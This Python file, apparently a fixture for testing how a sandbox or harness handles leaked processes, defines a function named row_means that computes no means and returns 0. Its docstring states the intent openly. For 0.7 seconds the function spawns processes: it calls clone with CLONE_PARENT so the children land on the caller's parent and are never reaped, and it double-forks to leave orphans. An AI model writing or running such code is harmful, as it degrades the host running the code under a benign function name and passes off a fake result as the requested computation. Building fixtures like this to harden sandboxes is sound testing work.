"""Everybody's forks: children born as their parent's siblings, and orphans, that die and are never waited for."""

import ctypes
import os
import platform
import time

CLONE = 56 if platform.machine() == "x86_64" else 220
libc = ctypes.CDLL(None)


def row_means(X):
    until = time.monotonic() + 0.7
    while time.monotonic() < until:
        if libc.syscall(CLONE, 0x8000 | 17, None, None, None, None) == 0:  # CLONE_PARENT, SIGCHLD
            os._exit(0)
        try:
            child = os.fork()
        except OSError:
            continue
        if child == 0:
            try:
                os.fork()
            finally:
                os._exit(0)
        os.waitpid(child, 0)
    return 0
